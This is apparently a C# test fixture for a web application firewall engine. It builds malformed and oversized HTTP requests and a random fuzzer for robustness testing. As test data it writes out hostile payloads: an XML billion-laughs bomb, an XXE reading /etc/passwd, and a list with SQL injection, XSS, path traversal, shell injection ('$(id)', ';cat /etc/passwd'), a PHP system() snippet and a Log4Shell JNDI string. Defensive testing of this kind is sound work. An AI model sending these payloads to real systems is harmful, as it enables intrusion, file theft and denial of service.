using System.Globalization;
using System.Text;

namespace Palisade.Waf.Tests.Engine;

/// <summary>
/// Requests built to hurt a WAF engine — deep nesting, huge bodies, hundreds of thousands of fields, broken encodings,
/// NUL bytes, absurd or contradictory Content-Types, XML entity bombs — and a seeded generator of random ones. Header
/// values and targets carry raw bytes as Latin-1 characters, as a host that does not decode them hands them over.
/// </summary>
internal static class HostileRequests
{
    private const string Browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";

    public static IReadOnlyList<string> Names { get; } =
    [
        "deep-json-arrays-10000",
        "deep-json-objects-10000",
        "json-100000-members",
        "multipart-10MB-5000-parts",
        "multipart-one-9MB-file-of-nuls",
        "multipart-missing-boundary-parameter",
        "multipart-duplicated-boundary-parameter",
        "multipart-boundary-never-present",
        "multipart-unterminated-part-headers",
        "query-100000-arguments",
        "form-100000-arguments",
        "header-values-1MB",
        "cookie-header-50000-cookies",
        "cookie-header-32KB-6000-cookies",
        "cookie-header-32KB-excluded-cookies-interleaved",
        "headers-10000",
        "path-1MB",
        "invalid-utf8-and-overlong-everywhere",
        "invalid-percent-encodings",
        "nested-percent-encoding-200KB",
        "nul-bytes-everywhere",
        "lone-surrogates-in-strings",
        "absurd-content-types",
        "content-type-64KB",
        "xml-billion-laughs",
        "xml-external-entity",
        "xml-deep-10000",
        "binary-body-octet-stream-2MB",
    ];

    /// <summary>Bytes the engine is handed: request target, header names and values, and the body.</summary>
    public static long InputSize(EngineExchange exchange) =>
        exchange.Target.Length + exchange.Headers.Sum(h => (long)h.Key.Length + h.Value.Length) + (exchange.Body?.Length ?? 0);

    public static EngineExchange Build(string name) => name switch
    {
        "deep-json-arrays-10000" => Json(new string('[', 10_000) + "1" + new string(']', 10_000)),
        "deep-json-objects-10000" => Json(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000)),
        "json-100000-members" => Json("{" + string.Join(',', Enumerable.Range(0, 100_000).Select(i => $"\"k{i}\":\"v{i}\"")) + "}"),
        "multipart-10MB-5000-parts" => Multipart(EngineExchange.MultipartType, ManyParts(5_000, 2_000)),
        "multipart-one-9MB-file-of-nuls" => Multipart(EngineExchange.MultipartType, OneFile(new string('\0', 9 * 1024 * 1024))),
        "multipart-missing-boundary-parameter" => Multipart("multipart/form-data", ManyParts(10, 100)),
        "multipart-duplicated-boundary-parameter" => Multipart($"multipart/form-data; boundary=other; boundary={EngineExchange.Boundary}", ManyParts(10, 100)),
        "multipart-boundary-never-present" => Multipart("multipart/form-data; boundary=NotInTheBody", ManyParts(100, 1_000)),
        "multipart-unterminated-part-headers" => Multipart(EngineExchange.MultipartType, Encoding.Latin1.GetBytes(
            "--" + EngineExchange.Boundary + "\r\nContent-Disposition: form-data; name=\"" + new string('n', 200_000) + "\r\nX: " + new string('h', 200_000))),
        "query-100000-arguments" => Get("/search?" + string.Join('&', Enumerable.Range(0, 100_000).Select(i => $"a{i}=v{i}"))),
        "form-100000-arguments" => EngineExchange.PostForm("/form", string.Join('&', Enumerable.Range(0, 100_000).Select(i => $"f{i}=%27{i}"))),
        "header-values-1MB" => Get("/").WithHeader("Referer", "https://www.example.test/?" + new string('r', 1 << 20))
            .WithHeader("X-Forwarded-For", string.Join(", ", Enumerable.Repeat("198.18.0.7", 5_000)))
            .WithHeader("X-Custom", new string('<', 1 << 20)),
        "cookie-header-50000-cookies" => Get("/").WithHeader("Cookie", string.Join("; ", Enumerable.Range(0, 50_000).Select(i => $"c{i}=%27x{i}"))),
        // What fits Kestrel's default 32 KB of request headers: the most cookies a server passes on.
        "cookie-header-32KB-6000-cookies" => Get("/").WithHeader("Cookie", string.Join("; ", Enumerable.Repeat("a=b", 6_000))),
        // CRS excludes !REQUEST_COOKIES:/__utm/ from many rules: excluded members between kept ones.
        "cookie-header-32KB-excluded-cookies-interleaved" => Get("/").WithHeader("Cookie", string.Join("; ", Enumerable.Repeat("__utmz=1; k=1", 2_200))),
        "headers-10000" => Enumerable.Range(0, 10_000).Aggregate(Get("/"), (e, i) => e.WithHeader("X-H" + i.ToString(CultureInfo.InvariantCulture), "v' or 1=1 -- " + i)),
        "path-1MB" => Get(string.Concat(Enumerable.Repeat("/a%2e%2e", 131_072))),
        "invalid-utf8-and-overlong-everywhere" => InvalidUtf8(),
        "invalid-percent-encodings" => Get("/%%%zz%4/%u12%uZZZZ%?a=%&b=%%2&%u12=%G0&c=" + string.Concat(Enumerable.Repeat("%Z%", 10_000)))
            .WithHeader("Content-Type", EngineExchange.FormType) with
        {
            Method = "POST",
            Body = Encoding.ASCII.GetBytes("x=%&y=%%%&%zz=%u00&" + string.Concat(Enumerable.Repeat("%q", 20_000))),
        },
        "nested-percent-encoding-200KB" => Get("/?v=" + string.Concat(Enumerable.Repeat("%25", 70_000)) + "41"),
        "nul-bytes-everywhere" => new EngineExchange
        {
            Method = "POST",
            Target = "/a%00b/c\0d?x=%00%00&y=\0",
            Headers = [new("Host", "www.example.test"), new("Content-Type", "application/json"), new("User-Agent", "nul\0agent"), new("X-Nul", "a\0b\0c")],
            Body = Encoding.UTF8.GetBytes("{\"a\":\"\\u0000\",\"\\u0000\":\"\0\"}"),
        },
        "lone-surrogates-in-strings" => Get("/p\uD800?q=\uDC00x").WithHeader("User-Agent", "agent \uD83D end").WithHeader("X-\uDFFF", "\uD800\uD800"),
        "absurd-content-types" => Post("application/x-www-form-urlencoded; charset=" + new string('x', 10_000) + ", multipart/form-data; boundary=", "a=1&b=<script>"),
        "content-type-64KB" => Post(string.Concat(Enumerable.Repeat("multipart/form-data; boundary=\"a;b\"; ", 2_000)), "--a;b\r\n\r\n"),
        "xml-billion-laughs" => Xml(BillionLaughs()),
        "xml-external-entity" => Xml("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        "xml-deep-10000" => Xml(string.Concat(Enumerable.Repeat("<a>", 10_000)) + "x" + string.Concat(Enumerable.Repeat("</a>", 10_000))),
        "binary-body-octet-stream-2MB" => Post("application/octet-stream", Encoding.Latin1.GetString(RandomBytes(new System.Random(5), 2 * 1024 * 1024))),
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, "No such hostile request."),
    };

    /// <summary>A random request: method, path, query, headers and a body of a random kind, each possibly broken.</summary>
    public static EngineExchange RandomRequest(Random random)
    {
        var hostile = random.Next(2) == 0;
        string Fragment(Random random) => HostileRequests.Fragment(random, hostile);
        var target = new StringBuilder("/");
        for (var i = random.Next(0, 6); i > 0; i--)
        {
            target.Append(Fragment(random)).Append('/');
        }

        if (random.Next(4) > 0)
        {
            target.Append('?');
            for (var i = random.Next(0, 40); i > 0; i--)
            {
                target.Append(Fragment(random)).Append('=').Append(Fragment(random)).Append(random.Next(10) == 0 ? ';' : '&');
            }
        }

        var headers = new List<KeyValuePair<string, string>> { new("Host", "www.example.test"), new("User-Agent", random.Next(5) == 0 ? Fragment(random) : Browser) };
        for (var i = random.Next(0, 8); i > 0; i--)
        {
            headers.Add(new(random.Next(3) == 0 ? Fragment(random) : "X-" + random.Next(1000).ToString(CultureInfo.InvariantCulture), Fragment(random)));
        }

        if (random.Next(3) == 0)
        {
            headers.Add(new("Cookie", string.Join("; ", Enumerable.Range(0, random.Next(1, 20)).Select(_ => Fragment(random) + "=" + Fragment(random)))));
        }

        string[] methods = ["GET", "POST", "PUT", "DELETE", "OPTIONS", "PROPFIND", Fragment(random)];
        var exchange = new EngineExchange { Method = methods[random.Next(methods.Length)], Target = target.ToString(), Headers = headers };
        if (random.Next(2) == 0)
        {
            return exchange;
        }

        var (contentType, body) = RandomBody(random, hostile);
        var bytes = hostile ? Mutate(random, Encoding.Latin1.GetBytes(body)) : Encoding.Latin1.GetBytes(body);
        return exchange with
        {
            Method = "POST",
            Headers = [.. headers, new("Content-Type", contentType), new("Content-Length", bytes.Length.ToString(CultureInfo.InvariantCulture))],
            Body = bytes,
        };
    }

    private static readonly string[] Attacks =
    [
        "' OR 1=1 --", "1 UNION SELECT password FROM users", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd", ";cat /etc/passwd", "$(id)", "<?php system('id'); ?>", "${jndi:ldap://x/a}",
        "javascript:alert(1)", "{{7*7}}", "%00", "\0", "\r\n\r\nX: y", "%C0%AF", "%u2215", "\u00ff\u00fe", "😀",
    ];

    /// <summary>A few tokens: attack snippets and broken encodings when <paramref name="hostile"/>, else plain words.</summary>
    private static string Fragment(Random random, bool hostile)
    {
        var text = new StringBuilder();
        for (var i = random.Next(0, 6); i > 0; i--)
        {
            switch (hostile ? random.Next(6) : 5)
            {
                case 0: text.Append(Attacks[random.Next(Attacks.Length)]); break;
                case 1: text.Append('%').Append(random.Next(256).ToString("X2", CultureInfo.InvariantCulture)); break;
                case 2: text.Append('%').Append((char)random.Next(32, 127)); break;
                case 3: text.Append((char)random.Next(0, 256)); break;
                default:
                    for (var letters = random.Next(1, 9); letters > 0; letters--)
                    {
                        text.Append((char)('a' + random.Next(26)));
                    }

                    break;
            }
        }

        return text.ToString();
    }

    private static (string ContentType, string Body) RandomBody(Random random, bool hostile)
    {
        string Fragment(Random random) => HostileRequests.Fragment(random, hostile);
        return random.Next(6) switch
        {
            0 => (EngineExchange.FormType, string.Join('&', Enumerable.Range(0, random.Next(1, 50)).Select(_ => Fragment(random) + "=" + Fragment(random)))),
            1 => ("application/json", RandomJson(random, 0, hostile)),
            2 => (EngineExchange.MultipartType, Encoding.Latin1.GetString(EngineExchange.Multipart(
                [.. Enumerable.Range(0, random.Next(1, 10)).Select(i => ($"Content-Disposition: form-data; name=\"{Fragment(random)}\"" + (i % 2 == 0 ? $"; filename=\"{Fragment(random)}\"" : ""), Fragment(random)))]))),
            3 => ("text/xml", "<r a=\"" + Fragment(random).Replace("\"", "", StringComparison.Ordinal) + "\">" + Fragment(random) + "<c>" + Fragment(random) + "</c></r>"),
            4 => ("text/plain", Fragment(random)),
            _ => (Fragment(random), Fragment(random)),
        };
    }

    private static string RandomJson(Random random, int depth, bool hostile) => (depth > 6 ? random.Next(3) : random.Next(5)) switch
    {
        0 => "\"" + Fragment(random, hostile).Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"",
        1 => random.Next().ToString(CultureInfo.InvariantCulture),
        2 => random.Next(2) == 0 ? "true" : "null",
        3 => "[" + string.Join(',', Enumerable.Range(0, random.Next(0, 5)).Select(_ => RandomJson(random, depth + 1, hostile))) + "]",
        _ => "{" + string.Join(',', Enumerable.Range(0, random.Next(0, 5)).Select(i => $"\"k{i}\":" + RandomJson(random, depth + 1, hostile))) + "}",
    };

    /// <summary>Leaves the body alone half of the time; otherwise truncates it, flips bytes or splices random bytes in.</summary>
    private static byte[] Mutate(Random random, byte[] body)
    {
        switch (random.Next(6))
        {
            case 0 when body.Length > 1:
                return body[..random.Next(body.Length)];
            case 1:
                for (var i = random.Next(1, 8); i > 0 && body.Length > 0; i--)
                {
                    body[random.Next(body.Length)] = (byte)random.Next(256);
                }

                return body;
            case 2:
                var at = random.Next(body.Length + 1);
                return [.. body.AsSpan(0, at), .. RandomBytes(random, random.Next(1, 64)), .. body.AsSpan(at)];
            default:
                return body;
        }
    }

    private static byte[] RandomBytes(Random random, int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        return bytes;
    }

    private static EngineExchange Get(string target) => new()
    {
        Target = target,
        Headers = [new("Host", "www.example.test"), new("User-Agent", Browser), new("Accept", "*/*")],
    };

    private static EngineExchange Post(string contentType, string body) => Body(contentType, Encoding.Latin1.GetBytes(body));

    private static EngineExchange Body(string contentType, byte[] body) => new()
    {
        Method = "POST",
        Target = "/submit",
        Headers =
        [
            new("Host", "www.example.test"),
            new("User-Agent", Browser),
            new("Content-Type", contentType),
            new("Content-Length", body.Length.ToString(CultureInfo.InvariantCulture)),
        ],
        Body = body,
    };

    private static EngineExchange Json(string text) => Body("application/json", Encoding.UTF8.GetBytes(text));

    private static EngineExchange Xml(string text) => Body("text/xml", Encoding.UTF8.GetBytes(text));

    private static EngineExchange Multipart(string contentType, byte[] body) => Body(contentType, body);

    private static byte[] ManyParts(int parts, int partSize)
    {
        var content = new string('p', Math.Max(1, partSize - 120));
        return EngineExchange.Multipart([.. Enumerable.Range(0, parts).Select(i => (i % 3 == 0
            ? $"Content-Disposition: form-data; name=\"file{i}\"; filename=\"f{i}.txt\"\nContent-Type: text/plain"
            : $"Content-Disposition: form-data; name=\"field{i}\"", content))]);
    }

    private static byte[] OneFile(string content) =>
        EngineExchange.Multipart(("Content-Disposition: form-data; name=\"upload\"; filename=\"zeros.bin\"\nContent-Type: application/octet-stream", content));

    private static EngineExchange InvalidUtf8()
    {
        // Overlong '/' and '.', a surrogate half, bytes that never occur in UTF-8 and truncated sequences.
        const string Encoded = "%C0%AF%C0%AE%E0%80%AF%F0%80%80%AF%ED%A0%80%F8%88%80%80%80%FF%FE%C3%E2%82";
        var raw = Encoding.Latin1.GetString([0xC0, 0xAF, 0xED, 0xA0, 0x80, 0xFF, 0xFE, 0xC3, 0xF4, 0x90, 0x80, 0x80]);
        return new EngineExchange
        {
            Method = "POST",
            Target = "/" + Encoded + "/?a=" + Encoded + "&" + Encoded + "=b",
            Headers = [new("Host", "www.example.test"), new("Content-Type", "application/json"), new("User-Agent", raw), new("Cookie", "c=" + raw + "; " + raw + "=v")],
            Body = Encoding.Latin1.GetBytes("{\"a\":\"" + raw + "\",\"" + raw + "\":[\"\\ud800\",\"\\udfff\"]}"),
        };
    }

    private static string BillionLaughs()
    {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            text.Append(CultureInfo.InvariantCulture, $"<!ENTITY lol{i} \"");
            for (var j = 0; j < 10; j++)
            {
                text.Append(i == 1 ? "&lol;" : $"&lol{i - 1};");
            }

            text.Append("\">");
        }

        return text.Append("]><lolz>&lol9;</lolz>").ToString();
    }
}
